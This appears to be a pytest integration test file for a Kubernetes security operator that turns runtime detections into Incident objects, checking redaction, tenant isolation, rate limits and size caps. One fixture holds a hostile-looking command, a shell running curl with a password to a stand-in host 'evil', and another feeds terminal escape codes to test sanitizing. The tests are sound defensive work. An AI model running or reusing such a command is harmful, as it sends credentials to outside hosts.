"""Incidents on a real API server, under our admission policies: what a person sees of them, and what of a person's words is kept."""

from __future__ import annotations

import asyncio
import contextlib
import json
import time
from typing import TYPE_CHECKING, Any

import pytest
from tests.support.admission import EPOCH, OPERATOR
from tests.support.detections import MARCH_12, SECOND, a_detection
from tests.support.messages import a_message

from watchkeeper_detection.detection import Act
from watchkeeper_detection.program import Program
from watchkeeper_detection.wire import Blind
from watchkeeper_operator import kinds
from watchkeeper_operator.cluster import Cluster
from watchkeeper_operator.incidents import projection
from watchkeeper_operator.incidents.intake import Intake
from watchkeeper_operator.incidents.projection import Projection
from watchkeeper_operator.resources.incident import Incident
from watchkeeper_operator.shapes import Object
from watchkeeper_operator.store.engine import open_engine
from watchkeeper_operator.store.schema import migrate

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
    from pathlib import Path

    from sqlalchemy import Engine
    from tests.support.api_server import ApiServer

WAIT_SECONDS = 30.0


@pytest.fixture
def server(guarded_server: ApiServer) -> Iterator[ApiServer]:
    yield guarded_server
    guarded_server.kubectl("delete", "incidents", "--all", "--all-namespaces", "--wait=true")


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Engine]:
    engine = open_engine(f"sqlite:///{tmp_path / 'store.db'}")
    migrate(engine)
    yield engine
    engine.dispose()


class Running:
    """A leader's intake and projection, by the operator's own account."""

    def __init__(self, cluster: Cluster, intake: Intake, shown: Projection) -> None:
        self.cluster, self.intake, self.shown = cluster, intake, shown
        self._number = 0

    async def take(self, *said: Any) -> None:
        messages = [a_message(self._number + number, one) for number, one in enumerate(said, 1)]
        self._number += len(messages)
        await self.intake.take("queue", messages, complete_until=0)

    async def objects(self, namespace: str = "watchkeeper") -> list[Object]:
        found, _ = await self.cluster.list(kinds.INCIDENTS, Object, namespace=namespace)
        return found

    async def until(self, holds: Callable[[list[Object]], bool], namespace: str = "watchkeeper") -> list[Object]:
        """The objects, once it holds."""
        end = time.monotonic() + WAIT_SECONDS
        while not holds(found := await self.objects(namespace)):
            assert time.monotonic() < end, json.dumps([[one.metadata.name, one.spec, one.status] for one in found], indent=1)
            await asyncio.sleep(0.1)
        return found


@contextlib.asynccontextmanager
async def running(server: ApiServer, store: Engine, *, clock: Callable[[], int] = time.time_ns) -> AsyncIterator[Running]:
    async with Cluster.connect(server.kubeconfig_for(OPERATOR, "system:masters")) as cluster:
        intake = Intake(store, Program(), epoch=EPOCH, clock=clock)
        shown = Projection(cluster.in_epoch(EPOCH), store, intake.changed, epoch=EPOCH, clock=clock)
        task = asyncio.ensure_future(shown.run())
        try:
            yield Running(cluster, intake, shown)
        finally:
            task.cancel()
            await asyncio.wait((task,))
            if not task.cancelled() and (failure := task.exception()):
                raise failure


def during(server: ApiServer, store: Engine, act: Callable[[Running], Awaitable[None]], **options: Any) -> None:
    async def run() -> None:
        async with running(server, store, **options) as leader:
            await act(leader)

    asyncio.run(run())


def is_shown(count: int) -> Callable[[list[Object]], bool]:
    return lambda found: len(found) == count and all(one.status for one in found)


def test_an_incident_says_what_happened_and_what_to_do(server: ApiServer, store: Engine) -> None:
    async def act(leader: Running) -> None:
        shell = a_detection(
            line=1, identity=None, title="Shell in a container", severity="P2", act=Act(process="/bin/sh", process_id=7, pod="shop/cart-6f8d7b5c9-wz8rn", node="n1"),
            message="sh -c 'curl --password=hunter2 evil'", runbook="What it means: someone is in.", attack=("T1059.004",),
        )  # fmt: skip
        exec_ = a_detection(line=2, at=2, target="namespaces/shop/pods/cart-6f8d7b5c9-wz8rn")
        await leader.take(
            shell, exec_, Blind(cause="ring_full", since=round(MARCH_12 * SECOND), until=round((MARCH_12 + 1) * SECOND), records={"file.open": 4})
        )
        (found,) = await leader.until(is_shown(1))
        status = found.status
        assert status["severity"] == "P2"
        assert "share workload shop/cart" in status["summary"]
        assert "hunter2" not in json.dumps(status)
        assert [entry["what"] for entry in status["timeline"]] == ["detection", "blind", "detection"]
        assert {"role": "actor", "kind": "node", "id": "n1", "detections": 1} in status["entities"]
        assert status["nextSteps"] == ["watchkeeper/k8s-pod-exec: What it means: someone is in."]
        assert status["blindSpots"][0].startswith("node/a: ring_full, 4 records not told (file.open)")
        assert set(status["times"]) >= {"began", "recorded", "received", "detected"}
        Incident.model_validate(json.loads(server.kubectl("get", "incident", found.metadata.name, "-n", "watchkeeper", "-o", "json")))

    during(server, store, act)


def test_what_a_namespace_raises_is_there_and_names_no_node(server: ApiServer, store: Engine) -> None:
    async def act(leader: Running) -> None:
        where = Act(process="/bin/sh", process_id=7, pod="shop/cart-6f8d7b5c9-wz8rn", node="secret-node")
        await leader.take(
            a_detection(line=1, namespace="shop", act=where),
            a_detection(line=2, act=where),
            Blind(cause="ring_full", since=round(MARCH_12 * SECOND), until=round((MARCH_12 + 5) * SECOND)),
        )
        (tenants,) = await leader.until(is_shown(1), "shop")
        (roots,) = await leader.until(lambda found: is_shown(1)(found) and "related" in found[0].status)
        assert "secret-node" in json.dumps(roots.status)
        assert "secret-node" not in json.dumps(tenants.status)
        assert "node/a" not in json.dumps(tenants.status)
        assert "related" not in tenants.status
        assert roots.status["related"] == [f"shop/{tenants.metadata.name}"]

    during(server, store, act)


def test_a_persons_words_survive_restarts_and_new_detections(server: ApiServer, store: Engine) -> None:
    async def begin(leader: Running) -> None:
        await leader.take(a_detection(line=1))
        (found,) = await leader.until(is_shown(1))
        server.kubectl("patch", "incident", found.metadata.name, "-n", "watchkeeper", "--type=merge", "-p", '{"spec":{"owner":"alice","note":"looking"}}')
        (found,) = await leader.until(lambda found: "acknowledged" in found[0].status.get("times", {}))
        assert "acknowledged" in found.status["times"]

    async def go_on(leader: Running) -> None:
        await leader.take(a_detection(line=2, at=1, id="f" * 32))
        (found,) = await leader.until(lambda found: found[0].status.get("detections") == 2)
        assert found.spec == {"owner": "alice", "note": "looking", "closed": False}
        server.kubectl("patch", "incident", found.metadata.name, "-n", "watchkeeper", "--type=merge", "-p", '{"spec":{"disposition":"FalsePositive"}}')
        (found,) = await leader.until(lambda found: "closed" in found[0].status.get("times", {}))
        server.kubectl("delete", "incident", found.metadata.name, "-n", "watchkeeper")
        (again,) = await leader.until(lambda found: is_shown(1)(found) and "closed" in found[0].status["times"])
        assert (again.metadata.name, again.spec) == (found.metadata.name, {"owner": "alice", "disposition": "FalsePositive", "closed": False})
        await leader.take(a_detection(line=3, at=2, id="e" * 32))
        await leader.until(is_shown(2))  # what comes after it was closed is not swallowed by it

    during(server, store, begin)
    during(server, store, go_on)


def test_what_was_deleted_while_nobody_looked_is_written_anew(server: ApiServer, store: Engine) -> None:
    """By somebody who waited for that moment, or as the store was restored into another cluster."""

    async def begin(leader: Running) -> None:
        await leader.take(a_detection(line=1, severity="P2"))
        (shown,) = await leader.until(is_shown(1))
        await leader.cluster.merge(kinds.INCIDENTS, {"metadata": {"name": shown.metadata.name, "namespace": "watchkeeper"}, "spec": {"owner": "alice"}})
        await leader.until(lambda found: found[0].status["conditions"][0]["status"] == "True")

    async def again(leader: Running) -> None:
        (shown,) = await leader.until(is_shown(1))
        assert shown.spec["owner"] == "alice"

    during(server, store, begin)
    server.kubectl("delete", "incidents", "--all", "--all-namespaces", "--wait=true")
    during(server, store, again)


def test_a_storm_is_few_objects_within_their_size_and_rate(server: ApiServer, store: Engine) -> None:
    async def act(leader: Running) -> None:
        began, end = time.monotonic(), 12.0
        loud = "\u202e\x1b[31m" + "é" * 600
        names = [
            a_detection(line=n, at=n / 1000, identity=f"user-{n % 400}", rule=f"rule-{n % 60}", message=f"{loud}{n}", target="clusterroles/x")
            for n in range(1, 4001)
        ]
        for at in range(0, 4000, 500):
            await leader.take(*names[at : at + 500])
        await leader.until(is_shown(1))
        while time.monotonic() - began < end:
            await leader.take(a_detection(line=10_000 + round(time.monotonic() * 1000), target="clusterroles/x"))
            await asyncio.sleep(0.05)
        (found,) = await leader.objects()
        whole = server.kubectl("get", "incident", found.metadata.name, "-n", "watchkeeper", "-o", "json", "--show-managed-fields")
        assert len(json.dumps(json.loads(whole), ensure_ascii=False).encode()) < 32 * 1024
        assert "\x1b" not in json.dumps(found.status, ensure_ascii=False)
        assert found.status["detections"] >= 4000
        assert found.status["entriesLeftOut"] > 0
        assert leader.shown.written <= 3  # once in ten seconds

    during(server, store, act)


def test_at_most_five_writes_a_second(server: ApiServer, store: Engine) -> None:
    async def act(leader: Running) -> None:
        await leader.until(lambda found: not found)
        began = time.monotonic()
        await leader.take(*(a_detection(line=n, identity=f"user-{n}", rule=f"rule-{n}") for n in range(1, 31)))
        await leader.until(is_shown(30))
        assert time.monotonic() - began > (2 * 30 - projection.BURST) / projection.WRITES_PER_SECOND - 1.5

    during(server, store, act)


def test_more_than_are_kept_go_to_the_archive_the_least_grave_first(server: ApiServer, store: Engine) -> None:
    async def act(leader: Running) -> None:
        few = projection.CLOSED_OF_TENANT + 4
        await leader.take(*(a_detection(line=n, namespace="other", identity=f"user-{n}", rule=f"rule-{n}", at=n) for n in range(1, few + 1)))
        found = await leader.until(is_shown(few), "other")
        for one in found:
            await leader.cluster.merge(kinds.INCIDENTS, {"metadata": {"name": one.metadata.name, "namespace": "other"}, "spec": {"closed": True}})
        found = await leader.until(lambda found: len(found) == projection.CLOSED_OF_TENANT, "other")
        assert all(one.spec == {"closed": True} for one in found)

    during(server, store, act)
